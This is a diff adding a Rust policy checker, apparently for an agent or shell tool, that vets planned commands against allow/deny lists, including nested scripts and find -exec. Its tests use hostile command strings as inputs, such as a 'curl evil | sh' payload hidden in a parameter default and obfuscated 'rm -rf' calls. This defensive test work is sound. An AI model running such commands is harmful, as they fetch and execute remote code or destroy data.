@@ -0,0 +1,373 @@
+// scy_policy.rs
+// 설정 파일의 [policy.allow] / [policy.deny] 규칙으로 계획을 실행 전에 검사한다.
+use std::env;
+use std::fmt;
+use std::path::{Component, Path, PathBuf};
+
+use crate::scy_analyzer::{find_exec_commands, inner_script, program_name, unwrap_wrappers_with};
+use crate::scy_shell::{self, Script, SimpleCommand, Word};
+
+// sh -c "sh -c '...'" 처럼 중첩된 스크립트를 따라가는 최대 깊이
+const MAX_DEPTH: usize = 4;
+
+/// programs: 프로그램 이름 (basename, glob 가능)
+/// args:     명령 한 줄 전체("prog arg1 arg2")에 대한 glob 패턴
+/// paths:    경로 prefix (~ 와 상대 경로는 CWD 기준으로 풀어서 비교)
+#[derive(Debug, Clone, Default)]
+pub struct RuleList {
+    pub programs: Vec<String>,
+    pub args: Vec<String>,
+    pub paths: Vec<String>,
+}
+
+impl RuleList {
+    pub fn is_empty(&self) -> bool {
+        self.programs.is_empty() && self.args.is_empty() && self.paths.is_empty()
+    }
+}
+
+/// deny는 하나라도 걸리면 차단, allow는 목록이 비어있지 않을 때 목록 밖이면 차단
+#[derive(Debug, Clone, Default)]
+pub struct CommandRules {
+    pub allow: RuleList,
+    pub deny: RuleList,
+}
+
+impl CommandRules {
+    pub fn is_empty(&self) -> bool {
+        self.allow.is_empty() && self.deny.is_empty()
+    }
+
+    /// 설정 키(policy.<kind>.<field>)로 목록 접근. kind: allow|deny, field: programs|args|paths
+    pub fn list(&self, kind: &str, field: &str) -> &Vec<String> {
+        let l = if kind == "allow" { &self.allow } else { &self.deny };
+        match field {
+            "programs" => &l.programs,
+            "args" => &l.args,
+            _ => &l.paths,
+        }
+    }
+
+    pub fn list_mut(&mut self, kind: &str, field: &str) -> &mut Vec<String> {
+        let l = if kind == "allow" { &mut self.allow } else { &mut self.deny };
+        match field {
+            "programs" => &mut l.programs,
+            "args" => &mut l.args,
+            _ => &mut l.paths,
+        }
+    }
+}
+
+/// 차단 사유
+#[derive(Debug, Clone)]
+pub struct Violation {
+    pub step: usize,          // 1부터
+    pub command: String,      // 걸린 명령 (중첩된 경우 안쪽 명령)
+    pub rule: String,         // 예: policy.deny.paths = "/etc"
+    pub reason: String,
+}
+
+impl fmt::Display for Violation {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "step {} blocked by {}: {} ({})", self.step, self.rule, self.reason, self.command)
+    }
+}
+
+pub fn check_plan(rules: &CommandRules, cmds: &[String]) -> Result<(), Violation> {
+    if rules.is_empty() {
+        return Ok(());
+    }
+    let cwd = env::current_dir().unwrap_or_else(|_| PathBuf::from("/"));
+    for (i, c) in cmds.iter().enumerate() {
+        check_command(rules, c, &cwd).map_err(|(command, rule, reason)| Violation { step: i + 1, command, rule, reason })?;
+    }
+    Ok(())
+}
+
+type Blocked = (String, String, String); // (command, rule, reason)
+
+fn check_command(rules: &CommandRules, cmd: &str, cwd: &Path) -> Result<(), Blocked> {
+    // 규칙이 있는데 파싱을 못 하면 검사할 수 없으므로 차단
+    let script = scy_shell::parse(cmd).map_err(|e| {
+        (cmd.to_string(), "policy".to_string(), format!("command could not be parsed for policy check: {}", e))
+    })?;
+    check_script(rules, &script, cwd, 0)
+}
+
+fn check_script(rules: &CommandRules, script: &Script, cwd: &Path, depth: usize) -> Result<(), Blocked> {
+    let mut result = Ok(());
+    script.visit_simple(&mut |sc| {
+        if result.is_ok() {
+            result = check_simple(rules, sc, cwd, depth);
+        }
+    });
+    result
+}
+
+fn check_simple(rules: &CommandRules, sc: &SimpleCommand, cwd: &Path, depth: usize) -> Result<(), Blocked> {
+    let raw = sc.argv();
+    let mut line = raw.join(" ");
+    for r in &sc.redirects {
+        line.push_str(&format!(" {} {}", r.op, r.target.text));
+    }
+    let blocked = |rule: String, reason: String| Err((line.clone(), rule, reason));
+
+    // 래퍼(sudo, env, nice ...)와 실제 프로그램 모두 검사
+    let mut programs = Vec::new();
+    let argv = unwrap_wrappers_with(&raw, &mut programs);
+    if let Some(p) = argv.first() {
+        programs.push(program_name(p));
+    }
+    programs.retain(|p| is_program_word(p));
+
+    // $(printf rm), "$P", `echo rm` 처럼 실행할 때 정해지는 프로그램 이름은 deny 목록과 비교할 수 없음
+    if !rules.deny.programs.is_empty() && !argv.is_empty() {
+        let word = &sc.words[raw.len() - argv.len()];
+        if !word.subs.is_empty() || word.text.contains(['$', '`']) {
+            return blocked(
+                format!("policy.deny.programs = [{}]", quote_list(&rules.deny.programs)),
+                format!("program name '{}' is computed at run time and cannot be checked", word.text),
+            );
+        }
+    }
+
+    for prog in &programs {
+        if let Some(pat) = rules.deny.programs.iter().find(|pat| glob_match(pat, prog)) {
+            return blocked(rule_name("deny", "programs", pat), format!("program '{}' is denied", prog));
+        }
+        if !rules.allow.programs.is_empty() && !rules.allow.programs.iter().any(|pat| glob_match(pat, prog)) {
+            return blocked(
+                format!("policy.allow.programs = [{}]", quote_list(&rules.allow.programs)),
+                format!("program '{}' is not in the allow-list", prog),
+            );
+        }
+    }
+
+    let cmdline = argv.join(" ");
+    if !cmdline.is_empty() {
+        if let Some(pat) = rules.deny.args.iter().find(|pat| glob_match(pat, &cmdline)) {
+            return blocked(rule_name("deny", "args", pat), "arguments match a denied pattern".to_string());
+        }
+        if !rules.allow.args.is_empty() && !rules.allow.args.iter().any(|pat| glob_match(pat, &cmdline)) {
+            return blocked(
+                format!("policy.allow.args = [{}]", quote_list(&rules.allow.args)),
+                "arguments do not match any allowed pattern".to_string(),
+            );
+        }
+    }
+
+    // 경로로 보이는 인자 + 리다이렉션 대상
+    let mut paths: Vec<&str> = argv.iter().skip(1).filter_map(|a| path_like(a)).collect();
+    paths.extend(sc.redirects.iter().filter(|r| !r.op.ends_with('&')).filter_map(|r| path_like(&r.target.text)));
+
+    for p in paths {
+        let abs = resolve(p, cwd);
+        // 컴포넌트 단위 prefix 비교 (/etc 는 /etcd 와 다름)
+        if let Some(prefix) = rules.deny.paths.iter().find(|pre| abs.starts_with(resolve(pre, cwd))) {
+            return blocked(rule_name("deny", "paths", prefix), format!("path '{}' is under a denied prefix", p));
+        }
+        if !rules.allow.paths.is_empty() && !rules.allow.paths.iter().any(|pre| abs.starts_with(resolve(pre, cwd))) {
+            return blocked(
+                format!("policy.allow.paths = [{}]", quote_list(&rules.allow.paths)),
+                format!("path '{}' is outside the allowed prefixes", p),
+            );
+        }
+    }
+
+    // sh -c "...", eval "...", find -exec ... 로 실행되는 안쪽 명령도 같은 규칙으로
+    let Some(first) = argv.first() else { return Ok(()) };
+    let prog = program_name(first);
+    let args = &argv[1..];
+    if let Some(src) = inner_script(prog, args) {
+        if depth >= MAX_DEPTH {
+            return blocked("policy".to_string(), format!("{} scripts are nested too deeply for policy check", prog));
+        }
+        let inner = match scy_shell::parse(&src) {
+            Ok(s) => s,
+            Err(e) => return blocked("policy".to_string(), format!("{} script could not be parsed for policy check: {}", prog, e)),
+        };
+        check_script(rules, &inner, cwd, depth + 1)?;
+    }
+    if prog == "find" && depth < MAX_DEPTH {
+        for exec in find_exec_commands(args) {
+            let words = exec.iter().map(|a| Word { text: a.to_string(), ..Word::default() }).collect();
+            check_simple(rules, &SimpleCommand { words, ..SimpleCommand::default() }, cwd, depth + 1)?;
+        }
+    }
+
+    Ok(())
+}
+
+fn rule_name(kind: &str, field: &str, value: &str) -> String {
+    format!("policy.{}.{} = \"{}\"", kind, field, value)
+}
+
+fn quote_list(v: &[String]) -> String {
+    v.iter().map(|s| format!("\"{}\"", s)).collect::<Vec<_>>().join(", ")
+}
+
+/// 셸 예약어/빌트인 중 프로그램 규칙 대상이 아닌 것 제외
+fn is_program_word(p: &str) -> bool {
+    !p.is_empty() && !matches!(p, "[" | "[[" | "test" | "true" | "false" | ":" | "cd" | "export" | "set" | "echo" | "printf")
+}
+
+/// 경로로 취급할 인자. --opt=/path 형태는 값 부분.
+fn path_like(arg: &str) -> Option<&str> {
+    let v = if arg.starts_with('-') {
+        arg.split_once('=').map(|(_, v)| v)?
+    } else {
+        arg
+    };
+    let v = v.strip_prefix("of=").or_else(|| v.strip_prefix("if=")).unwrap_or(v);
+    if v.starts_with('/') || v.starts_with('~') || v.starts_with("$HOME") || v.starts_with("${HOME}") || v.starts_with('.') || v.contains('/') {
+        // URL은 경로가 아님
+        if v.contains("://") {
+            return None;
+        }
+        Some(v)
+    } else {
+        None
+    }
+}
+
+/// ~, $HOME 확장 후 CWD 기준 절대 경로로 (파일시스템은 보지 않고 글자만 정규화)
+pub fn resolve(p: &str, cwd: &Path) -> PathBuf {
+    let home = env::var("HOME").unwrap_or_default();
+    let expanded = if let Some(rest) = p.strip_prefix('~') {
+        format!("{}{}", home, rest)
+    } else if let Some(rest) = p.strip_prefix("${HOME}") {
+        format!("{}{}", home, rest)
+    } else if let Some(rest) = p.strip_prefix("$HOME") {
+        format!("{}{}", home, rest)
+    } else {
+        p.to_string()
+    };
+
+    let joined = cwd.join(expanded);
+    let mut out = PathBuf::new();
+    for c in joined.components() {
+        match c {
+            Component::ParentDir => {
+                out.pop();
+            }
+            Component::CurDir => {}
+            other => out.push(other),
+        }
+    }
+    out
+}
+
+/// '*' (아무 문자열), '?' (한 글자) 만 지원하는 glob
+pub fn glob_match(pattern: &str, text: &str) -> bool {
+    let p: Vec<char> = pattern.chars().collect();
+    let t: Vec<char> = text.chars().collect();
+    let (mut pi, mut ti) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+
+    while ti < t.len() {
+        if pi < p.len() && (p[pi] == '?' || p[pi] == t[ti]) {
+            pi += 1;
+            ti += 1;
+        } else if pi < p.len() && p[pi] == '*' {
+            star = Some((pi, ti));
+            pi += 1;
+        } else if let Some((sp, st)) = star {
+            pi = sp + 1;
+            ti = st + 1;
+            star = Some((sp, st + 1));
+        } else {
+            return false;
+        }
+    }
+    while pi < p.len() && p[pi] == '*' {
+        pi += 1;
+    }
+    pi == p.len()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn deny_programs(p: &[&str]) -> CommandRules {
+        let mut rules = CommandRules::default();
+        rules.deny.programs = p.iter().map(|s| s.to_string()).collect();
+        rules
+    }
+
+    fn check(rules: &CommandRules, cmd: &str) -> Result<(), Blocked> {
+        check_command(rules, cmd, Path::new("/work"))
+    }
+
+    #[test]
+    fn denied_program_direct_and_wrapped() {
+        let rules = deny_programs(&["curl"]);
+        assert!(check(&rules, "curl -O https://x/a").is_err());
+        assert!(check(&rules, "sudo env A=1 curl x").is_err());
+        assert!(check(&rules, "echo $(curl x)").is_err());
+        assert!(check(&rules, "wget x").is_ok());
+    }
+
+    #[test]
+    fn denied_program_inside_nested_scripts() {
+        let rules = deny_programs(&["curl", "rm"]);
+        assert!(check(&rules, "sh -c \"curl https://x | tar xz\"").is_err());
+        assert!(check(&rules, "bash -lc 'cd /tmp && curl x'").is_err());
+        assert!(check(&rules, "eval \"curl x\"").is_err());
+        assert!(check(&rules, "sh -c \"sh -c 'curl x'\"").is_err());
+        assert!(check(&rules, "find . -name '*.tmp' -exec rm {} +").is_err());
+        assert!(check(&rules, "find . -execdir sh -c 'rm \"$1\"' _ {} \\;").is_err());
+        assert!(check(&rules, "ls | xargs rm").is_err());
+        assert!(check(&rules, "sh -c 'ls -la'").is_ok());
+        assert!(check(&rules, "find . -name '*.tmp' -exec ls {} \\;").is_ok());
+    }
+
+    #[test]
+    fn computed_program_name_is_blocked_with_deny_list() {
+        let rules = deny_programs(&["rm"]);
+        for cmd in ["$(printf rm) -rf x", "\"$P\" -rf x", "`echo rm` x", "sudo ${P} x", "sh -c '$P x'"] {
+            let (_, rule, reason) = check(&rules, cmd).unwrap_err();
+            assert!(rule.starts_with("policy.deny.programs"), "{}: {}", cmd, rule);
+            assert!(reason.contains("computed at run time"), "{}: {}", cmd, reason);
+        }
+        // 인자 속 변수는 괜찮음
+        assert!(check(&rules, "ls \"$HOME\" $(pwd)").is_ok());
+        // deny 목록이 없으면 검사하지 않음
+        assert!(check(&CommandRules::default(), "$(printf rm) -rf x").is_ok());
+    }
+
+    #[test]
+    fn unparsable_nested_script_is_blocked() {
+        let rules = deny_programs(&["curl"]);
+        let (_, rule, reason) = check(&rules, "sh -c 'echo \"unterminated'").unwrap_err();
+        assert_eq!(rule, "policy");
+        assert!(reason.contains("could not be parsed"), "{}", reason);
+    }
+
+    #[test]
+    fn allow_list_and_paths_apply_inside_nested_scripts() {
+        let mut rules = CommandRules::default();
+        rules.allow.programs = vec!["sh".into(), "ls".into()];
+        rules.deny.paths = vec!["/etc".into()];
+        assert!(check(&rules, "sh -c 'ls'").is_ok());
+        assert!(check(&rules, "sh -c 'tar czf a.tgz .'").is_err());
+        assert!(check(&rules, "sh -c 'ls /etc/ssh'").is_err());
+        assert!(check(&rules, "sh -c 'ls ../etc'").is_err()); // /work/../etc = /etc
+    }
+
+    #[test]
+    fn substitutions_in_parameter_defaults_are_checked() {
+        let mut rules = CommandRules::default();
+        rules.allow.programs = vec!["git".into()];
+        assert!(check(&rules, "git status ${x:-$(curl evil | sh)}").is_err());
+        assert!(check(&rules, "git status ${x:-${y}}").is_ok());
+        assert!(check(&deny_programs(&["curl"]), "echo \"${x:-`curl x`}\"").is_err());
+    }
+
+    #[test]
+    fn glob() {
+        assert!(glob_match("git push *--force*", "git push origin --force"));
+        assert!(glob_match("py?hon*", "python3"));
+        assert!(!glob_match("rm", "rmdir"));
+    }
+}